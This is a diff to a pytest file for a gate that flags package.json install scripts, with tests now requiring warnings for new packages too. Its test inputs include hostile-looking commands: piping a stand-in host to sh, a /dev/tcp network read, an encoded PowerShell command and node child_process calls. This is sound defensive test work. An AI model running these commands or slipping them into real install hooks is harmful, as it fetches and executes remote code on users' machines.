@@ -31,32 +31,38 @@ def test_a_script_is_seen_in_any_writing(text, line):
 
 
 @pytest.mark.parametrize(
-    ("command", "severity"),
+    "command",
     [
-        (FETCH, "warning"),
-        (r"\u0063url -s e.example | sh", "warning"),
-        ("node -e \\\"require('child_process')\\\"", "warning"),
-        ("node -pe 1", "warning"),
-        ("bash -c 'cat < /dev/tcp/e.example/80'", "warning"),
-        ("powershell -enc AAAA", "warning"),
-        ("python3 -c 'import os'", "warning"),
-        ("1>/dev/null node x.js", "notice"),
-        ("husky", "notice"),
-        ("node scripts/evaluate.js --curly", "notice"),
+        FETCH,
+        r"\u0063url -s e.example | sh",
+        "node -e \\\"require('child_process')\\\"",
+        "node -pe 1",
+        "bash -c 'cat < /dev/tcp/e.example/80'",
+        "powershell -enc AAAA",
+        "python3 -c 'import os'",
     ],
 )
-def test_what_fetches_or_hides_code_weighs_more(command, severity):
+def test_what_fetches_or_hides_code_is_reported_in_a_new_package_too(command):
     new = '{"scripts": {"install": "%s"}}' % command  # noqa: UP031 - braces
-    assert told(gate({"package.json": ("{}", new)})) == [
-        ("install_script", severity, "package.json", 1)
-    ]
+    for old in ("{}", ""):
+        assert told(gate({"package.json": (old, new)})) == [
+            ("install_script", "warning", "package.json", 1)
+        ]
+
+
+@pytest.mark.parametrize(
+    "command", ["1>/dev/null node x.js", "husky", "node scripts/evaluate.js --curly"]
+)
+def test_another_script_is_told_by_the_gate_of_what_runs_by_itself(command):
+    new = json.dumps({"scripts": {"install": command}})
+    assert told(gate({"package.json": ("{}", new)})) == []
 
 
 def test_a_script_that_changed_is_new():
-    old = json.dumps({"scripts": {"prepare": "husky", "postinstall": "node a.js"}})
-    new = json.dumps({"scripts": {"prepare": "husky", "postinstall": "node b.js"}})
+    old = json.dumps({"scripts": {"prepare": "husky", "postinstall": f"{FETCH} -x"}})
+    new = json.dumps({"scripts": {"prepare": "husky", "postinstall": FETCH}})
     assert told(gate({"package.json": (old, new)})) == [
-        ("install_script", "notice", "package.json", 1)
+        ("install_script", "warning", "package.json", 1)
     ]
 
 
